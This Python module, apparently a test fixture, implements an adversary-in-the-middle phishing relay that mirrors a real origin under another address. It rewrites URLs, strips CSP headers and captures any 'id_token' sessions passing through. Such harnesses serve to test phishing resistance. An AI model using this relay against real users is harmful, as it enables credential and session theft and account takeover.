"""An attacker's page: another origin that forwards everything to the real one in real time, both ways."""

from __future__ import annotations

import http.client
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, Self
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from types import TracebackType

# What would tell the browser that it is on another page, and what belongs to one connection.
DROPPED = {"content-security-policy", "connection", "transfer-encoding", "content-length", "date", "server"}


class Relay:
    """Serves the pages and the service of a stack under an address of its own, and keeps every session that it sees."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.sessions: list[dict[str, Any]] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        relay = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                status, headers, body = relay.forwarded(self)
                self.send_response(status)
                for name, value in headers:
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815  named by http.server
            do_DELETE = do_GET  # noqa: N815  the same

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        return Handler

    def forwarded(self, asked: BaseHTTPRequestHandler) -> tuple[int, list[tuple[str, str]], bytes]:
        """The real answer to a request, in which the relay stands for the real host on either side."""
        length = int(asked.headers.get("Content-Length") or 0)
        body = asked.rfile.read(length).replace(self.url.encode(), self.target.encode())
        named = {name: value.replace(self.url, self.target) for name, value in asked.headers.items()}
        real = http.client.HTTPConnection(urlsplit(self.target).netloc, timeout=30)
        named |= {"Host": urlsplit(self.target).netloc, "Accept-Encoding": "identity", "Content-Length": str(len(body))}
        real.request(asked.command, asked.path, body, named)
        answer = real.getresponse()
        content = answer.read()
        real.close()
        if b'"id_token"' in content and "json" in (answer.getheader("Content-Type") or ""):
            self.sessions.append(json.loads(content))
        headers = [(name, value) for name, value in answer.getheaders() if name.lower() not in DROPPED]
        return answer.status, headers, content.replace(self.target.encode(), self.url.encode())
